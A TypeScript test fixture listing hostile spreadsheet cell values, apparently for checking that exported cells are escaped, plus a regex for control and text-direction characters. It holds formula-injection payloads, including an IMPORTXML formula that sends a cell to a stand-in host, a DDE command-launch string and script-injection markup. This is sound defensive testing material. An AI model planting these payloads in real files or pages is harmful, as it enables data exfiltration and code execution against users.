/** Cells that would like to be more than words: formulas, markup, controls, turned text, halves of characters, sheer length. */
export const HOSTILE_CELLS = [
  '=1+1',
  '=IMPORTXML("https://jahat.test/?"&A1;"//a")',
  '=HYPERLINK("https://jahat.test";"klik di sini")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  "'=1+1",
  '\t=1+1',
  '=cmd|"/c calc"!A1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'a\u0000b\u0007c\u001b[2Jd\u0085e',
  'baris satu\r\nbaris dua\rbaris tiga',
  '\u202eterbalik\u202c \u200fkanan\u2066x\u2069',
  '\ud800 setengah',
  'akhir \udc00',
  '🌵 ñ 漢字',
  '{{7*7}} %s %n',
  '#REF!',
  'x'.repeat(50_000),
] as const;

/** Controls but line feed and tab, and marks that turn the text around them. */
export const RAW_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
